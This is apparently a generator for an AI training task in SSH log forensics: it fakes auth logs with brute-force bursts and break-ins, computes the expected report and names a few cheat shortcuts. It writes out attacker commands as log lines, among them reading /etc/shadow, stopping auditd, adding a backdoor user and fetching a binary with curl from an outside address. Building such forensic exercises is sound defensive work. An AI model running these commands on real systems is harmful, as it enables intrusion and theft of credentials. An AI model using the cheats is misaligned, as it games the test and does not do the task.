"""The break-in scenario of log-forensics: password logins that follow a burst of failures, over several hosts."""

from __future__ import annotations

from bisect import bisect_left, bisect_right
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any, NamedTuple

import numpy as np

from selftrain.envs.checks import json_check
from selftrain.envs.families.log_break_in_scripts import ORACLE
from selftrain.envs.families.material import between, hosts, pick, sample, start_of_story
from selftrain.envs.verifiers import EvidenceVerifier
from selftrain.tasks import Limits, Task

LOGS, REPORT = "/workspace/logs", "/workspace/report.json"
ACCOUNTS = ("deploy", "backup", "root", "jenkins", "postgres", "www-data", "ansible", "nagios", "git", "oracle")
GUESSES = (*ACCOUNTS, "invalid user admin", "invalid user test", "invalid user ubuntu", "invalid user pi")
COMMANDS = (
    "/usr/bin/apt-get install -y socat",
    "/usr/sbin/useradd -m -s /bin/bash sysupdate",
    "/usr/bin/cat /etc/shadow",
    "/usr/bin/crontab -e",
    "/bin/systemctl stop auditd",
    "/usr/bin/tar czf /var/tmp/.x.tgz /srv/data",
    "/usr/bin/curl -o /usr/local/bin/kworkerd http://203.0.113.9/k",
)
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


class Event(NamedTuple):
    """One line of an auth.log before it is written: `times` counts repetitions of a failure."""

    at: datetime
    host: str
    kind: str
    account: str
    address: str
    times: int = 1


@dataclass(frozen=True)
class Rule:
    """What counts as an intrusion."""

    least: int
    minutes: int
    follow: int
    trusted: tuple[str, ...]


def _address(rng: np.random.Generator) -> str:
    first = pick(rng, ("45", "91", "103", "185", "193", "212"))
    return f"{first}.{between(rng, 1, 250)}.{between(rng, 0, 250)}.{between(rng, 1, 250)}"


def _background(rng: np.random.Generator, names: Sequence[str], start: datetime, hours: int, count: int) -> list[Event]:
    strangers = [_address(rng) for _ in range(50)]
    offices = [f"10.{between(rng, 0, 40)}.{between(rng, 0, 250)}.{between(rng, 2, 250)}" for _ in range(20)]
    seconds = rng.integers(0, hours * 3600, count)
    dice, pairs = rng.random(count), rng.integers(0, 10_000, (count, 3))
    events = []
    for second, roll, (one, two, three) in zip(seconds.tolist(), dice.tolist(), pairs.tolist(), strict=True):
        at, host = start + timedelta(seconds=second), names[one % len(names)]
        if roll < 0.5:
            times = 2 + three % 4 if roll < 0.03 else 1
            events.append(Event(at, host, "fail", GUESSES[two % len(GUESSES)], strangers[three % 50], times))
        elif roll < 0.62:
            kind = "key" if roll < 0.58 else "password"
            events.append(Event(at, host, kind, ACCOUNTS[two % len(ACCOUNTS)], offices[three % 20]))
        elif roll < 0.65:
            events.append(Event(at, host, "ls", ACCOUNTS[two % len(ACCOUNTS)], ""))
        else:
            events.append(Event(at, host, "noise", "", ""))
    return events


def _attack(
    rng: np.random.Generator, names: Sequence[str], moment: datetime, rule: Rule, kind: str, address: str
) -> list[Event]:
    """A burst of failures that ends in a login: a true one, or one that misses the rule in the way `kind` says."""
    host, account = pick(rng, names), pick(rng, ACCOUNTS)
    wanted = rule.least - 1 if kind == "too few" else rule.least + between(rng, 0, 25)
    shift = timedelta(minutes=rule.minutes + 5) if kind == "too early" else timedelta()
    events: list[Event] = []
    left = wanted
    while left:
        times = min(left, between(rng, 2, 5)) if not events or rng.random() < 0.3 else 1
        at = moment - shift - timedelta(seconds=between(rng, 2, rule.minutes * 55))
        events.append(Event(at, pick(rng, names), "fail", pick(rng, GUESSES), address, times))
        left -= times
    events.append(Event(moment, host, "key" if kind == "by key" else "password", account, address))
    for command in sample(rng, COMMANDS, between(rng, 0, 4)):
        after = moment + timedelta(seconds=between(rng, 20, rule.follow * 75))
        events.append(Event(after, host, command, account, ""))
    return events


def _expected(events: Sequence[Event], rule: Rule) -> list[dict[str, Any]]:
    failures: dict[str, list[datetime]] = {}
    for event in events:
        if event.kind == "fail":
            failures.setdefault(event.address, []).extend([event.at] * event.times)
    report = []
    for event in events:
        if event.kind != "password" or event.address in rule.trusted:
            continue
        known = failures.get(event.address, [])
        since = event.at - timedelta(minutes=rule.minutes)
        count = bisect_left(known, event.at) - bisect_left(known, since)
        if count < rule.least:
            continue
        end = event.at + timedelta(minutes=rule.follow)
        near = events[bisect_left(events, event.at, key=_moment) : bisect_right(events, end, key=_moment)]
        mine = [e for e in near if (e.host, e.account) == (event.host, event.account)]
        ran = [_command(e.kind) for e in mine if e.kind == "ls" or e.kind.startswith("/")]
        row = {"time": event.at.strftime("%Y-%m-%dT%H:%M:%SZ"), "host": event.host, "account": event.account}
        report.append({**row, "address": event.address, "failures": count, "commands": ran})
    return report


def _moment(event: Event) -> datetime:
    return event.at


def _command(kind: str) -> str:
    return "/usr/bin/ls -la /var/backups" if kind == "ls" else kind


def _line(event: Event, offset: int, number: int) -> str:
    local = event.at + timedelta(minutes=offset)
    stamp = f"{MONTHS[local.month - 1]} {local.day:2d} {local.time()} {event.host}"
    process, port = 1000 + number * 7 % 30000, 30000 + number * 13 % 30000
    if event.kind == "fail":
        text = f"Failed password for {event.account} from {event.address} port {port} ssh2"
        text = text if event.times == 1 else f"message repeated {event.times} times: [ {text}]"
        return f"{stamp} sshd[{process}]: {text}"
    if event.kind in ("key", "password"):
        tail = ": ED25519 SHA256:o1Hk3T" if event.kind == "key" else ""
        method = "publickey" if event.kind == "key" else "password"
        return (
            f"{stamp} sshd[{process}]: Accepted {method} for {event.account} from "
            f"{event.address} port {port} ssh2{tail}"
        )
    if event.kind == "noise":
        return (
            f"{stamp} CRON[{process}]: pam_unix(cron:session): session {('opened', 'closed')[number % 2]} for user root"
        )
    return f"{stamp} sudo: {event.account:>8} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={_command(event.kind)}"


def _files(events: Sequence[Event], offsets: dict[str, int], parts: int) -> dict[str, bytes]:
    lines: dict[str, list[str]] = {host: [] for host in offsets}
    for number, event in enumerate(events):
        lines[event.host].append(_line(event, offsets[event.host], number))
    files = {}
    for host, rows in lines.items():
        size = -(-len(rows) // parts)
        for part in range(parts):
            name = "auth.log" if part == parts - 1 else f"auth.log.{parts - 1 - part}"
            files[f"{LOGS}/{host}/{name}"] = "".join(
                f"{row}\n" for row in rows[part * size : (part + 1) * size]
            ).encode()
    return files


def _instruction(rng: np.random.Generator, rule: Rule, offsets: dict[str, int], newest: datetime, level: int) -> str:
    opening = pick(
        rng,
        (
            "Somebody guessed passwords on our hosts, and got in.",
            "The security team wants to know which password logins were break-ins.",
            "After an alert about SSH logins, find out what happened.",
        ),
    )
    text = f"{opening} The hosts' auth logs are in {LOGS}/<host>/"
    text += ", rotated by size, the older ones gzipped." if level >= 3 else "."
    text += (
        f" Syslog writes neither year nor time zone: the newest lines are of {newest:%B %Y}, and none is a year old. "
    )
    if level >= 4:
        text += "/workspace/hosts.csv says how many minutes each host's clock is ahead of UTC (negative: behind),"
        text += " and /workspace/trusted.txt lists the addresses of our own scanners, whose logins are no intrusions."
    else:
        clocks = ", ".join(f"{host} {value:+d}" for host, value in offsets.items())
        text += f"The hosts' clocks are ahead of UTC by these minutes (negative: behind): {clocks}."
    text += (
        f"\n\nAn intrusion is a login by password from an address that had at least "
        f"{rule.least} failed passwords, for any "
        f"accounts, existing or not, and on any of the hosts together, in the {rule.minutes} minutes before it "
        f"(from exactly {rule.minutes} "
        "minutes before up to, but without, the second of the login itself). A line `message repeated N times` stands "
        f"for N failures at its time.\n\nWrite {REPORT}: a JSON array with one object for each intrusion, by time: "
        '{"time": "YYYY-MM-DDTHH:MM:SSZ" (UTC), "host", "account", "address", "failures": their number in those '
        f'{rule.minutes} minutes, "commands": what this account ran by sudo on this host from the login to '
        f"{rule.follow} minutes after it (inclusive), as logged after COMMAND=, by time}}."
    )
    return text


def _story(
    rng: np.random.Generator, names: Sequence[str], start: datetime, rule: Rule, level: int
) -> tuple[Event, ...]:
    """Everything that happened, in order: the daily noise, true intrusions and near misses."""
    hours = {1: 6, 2: 24, 3: 48, 4: 72, 5: 120}[level]
    events = _background(rng, names, start, hours, {1: 150, 2: 1500, 3: 4000, 4: 8_000, 5: 18_000}[level])
    kinds = ["true"] * (level + 1) + ["too few", "by key"] + ["too early"] * (level >= 2) + ["trusted"] * (level >= 4)
    for number, kind in enumerate(kinds):
        # the first lies in the rotated part, so that nobody can do without it
        latest = hours * 1200 if number == 0 else hours * 3600 - 3000
        moment = start + timedelta(seconds=between(rng, 5000, latest))
        address = rule.trusted[number % 3] if kind == "trusted" else _address(rng)
        events += _attack(rng, names, moment, rule, kind, address)
    # two events in one second would leave the order of commands open
    unique = {(event.host, event.account, event.at) if event.kind != "noise" else id(event): event for event in events}
    return tuple(sorted(unique.values(), key=lambda event: (event.at, event.host)))


def _cheats(level: int, scripts: dict[str, str], host: str) -> dict[str, tuple[str, ...]]:
    kinds = (("methods", 1), ("offsets", 2), ("rotation", 2), ("repeats", 1), ("trust", 4))
    cheats: dict[str, tuple[str, ...]] = {
        f"ignores {kind}": (scripts[kind],) for kind, least in kinds if level >= least
    }
    return cheats | {
        "reports nothing": (f"echo '[]' > {REPORT}",),
        "links to a log": (f"ln -s {LOGS}/{host}/auth.log {REPORT}",),
    }


def _scripts(rule: Rule, offsets: dict[str, int], newest: datetime) -> dict[str, str]:
    """The oracle under the name "", and what it becomes when it leaves one thing out."""
    return {
        skip: ORACLE.format(
            skip=skip,
            offsets=offsets,
            newest=newest.replace(tzinfo=None).isoformat(),
            least=rule.least,
            minutes=rule.minutes,
            follow=rule.follow,
            trusted=rule.trusted,
        )
        for skip in ("", "methods", "offsets", "rotation", "repeats", "trust")
    }


def break_in(rng: np.random.Generator, level: int) -> Task:
    """Auth logs with a few true intrusions among near misses."""
    names = sorted(hosts(rng, {1: 1, 2: 1, 3: 2, 4: 4, 5: 6}[level]))
    offsets = {name: 0 if level == 1 else pick(rng, (-480, -300, -180, 60, 120, 330, 540)) for name in names}
    scanners = tuple(f"198.51.100.{number}" for number in sample(rng, range(2, 250), 3)) if level >= 4 else ()
    rule = Rule(between(rng, 6, 14), pick(rng, (10, 15, 20, 30)), pick(rng, (10, 15, 25)), scanners)
    start = start_of_story(rng).astimezone(UTC).replace(hour=0)
    if level == 5:  # over the turn of a year, which syslog does not write
        start = start.replace(month=12, day=between(rng, 28, 30))
    events = _story(rng, names, start, rule, level)
    expected = _expected(events, rule)
    # on the clock of its host, as the agent sees it
    newest = max(event.at + timedelta(minutes=offsets[event.host]) for event in events)
    files = _files(events, offsets, {1: 1, 2: 2, 3: 4, 4: 4, 5: 6}[level])
    if level >= 4:
        rows = "".join(f"{host},{offset}\n" for host, offset in offsets.items())
        files["/workspace/hosts.csv"] = f"host,minutes_ahead_of_utc\n{rows}".encode()
        files["/workspace/trusted.txt"] = "".join(f"{address}\n" for address in scanners).encode()
    scripts = _scripts(rule, offsets, newest)
    return Task(
        instruction=_instruction(rng, rule, offsets, newest, level),
        verifier=EvidenceVerifier((REPORT,), lambda evidence: [json_check(evidence, REPORT, expected)]),
        files=files,
        setup=f"gzip -n {LOGS}/*/auth.log.[2-9]\n" if level >= 3 else "",
        tools=("python3", "gzip"),
        oracle=(scripts[""],),
        cheats=_cheats(level, scripts, names[0]),
        limits=Limits(steps={1: 20, 2: 30, 3: 45, 4: 60, 5: 90}[level], seconds=300.0 * level),
    )
